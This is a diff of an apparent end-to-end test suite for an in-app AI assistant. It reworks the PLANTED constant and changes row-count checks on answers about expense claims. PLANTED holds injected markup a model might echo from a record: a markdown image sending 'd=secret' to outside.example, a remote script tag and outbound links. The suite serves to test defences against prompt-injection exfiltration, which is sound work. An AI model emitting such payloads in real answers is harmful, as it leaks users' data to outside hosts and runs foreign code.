@@ -11,8 +11,8 @@ jest.setTimeout(240_000);
 
 /** What a model may say that repeats what somebody planted in a record. */
 const PLANTED = [
-  'Planted: ![paid](https://outside.example/p.png?d=secret) <img src="https://outside.example/q.png">',
-  '<script src="https://outside.example/s.js"></script> [press](https://outside.example/go) [own](/leave)',
+  'Planted: ![paid](https://outside.example/p.png?d=secret) <img src="https://outside.example/q.png"> <script src="https://outside.example/s.js"></script>',
+  '[press](https://outside.example/go) [own](/leave)',
 ].join('\n\n');
 const SLOW_WORDS = Array.from({ length: 40 }, (_, at) => `word${at + 1}`);
 /** Between two words: long enough to do something meanwhile, however slow the machine. */
@@ -78,16 +78,16 @@ async function ask(page: Page, question: string) {
   return answer;
 }
 
-/** The names in the first column of an answer's table, and that its first row leads to a page that is there. */
-async function peopleIn(page: Page, question: string): Promise<string[]> {
+/** How many rows an answer's table has, of which the first leads to a page that is there. */
+async function rowsOf(page: Page, question: string): Promise<number> {
   const answer = await ask(page, question);
-  const names = await answer.locator('tbody tr td:first-child').allInnerTexts();
+  const rows = await answer.locator('tbody tr').count();
   await answer.locator('tbody a').first().click();
   await page.waitForURL((url) => !url.pathname.startsWith('/assistant'));
   await page.getByRole('heading', { level: 1 }).first().waitFor();
   await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
   await comesToBe(() => page.getByText('Not found', { exact: true }).count(), 0);
-  return names;
+  return rows;
 }
 
 test('one question has three answers: nothing, a team, everybody; and their rows lead to records', async () => {
@@ -95,15 +95,10 @@ test('one question has three answers: nothing, a team, everybody; and their rows
   const nothing = await ask(rep, 'What did Consulting spend by person this year?');
   expect(await nothing.locator('tbody tr').count()).toBe(0);
   expect(await nothing.getByRole('alert').count()).toBe(0);
-  const team = 'How many days of leave did each person of my team take this year?';
-  const manager = await peopleIn(await open('sales.manager'), team);
-  const all = await peopleIn(
-    await open('admin'),
-    'How many days of leave did each person take this year?',
-  );
-  expect(manager.length).toBeGreaterThan(0);
-  expect(all.length).toBeGreaterThan(manager.length);
-  expect(all).toEqual(expect.arrayContaining(manager));
+  const team = await rowsOf(await open('sales.manager'), 'Show the expense claims of my team');
+  const all = await rowsOf(await open('admin'), 'Show all expense claims');
+  expect(team).toBeGreaterThan(0);
+  expect(all).toBeGreaterThan(team);
 });
 
 test('an answer is stopped where it is, and what was said stays', async () => {
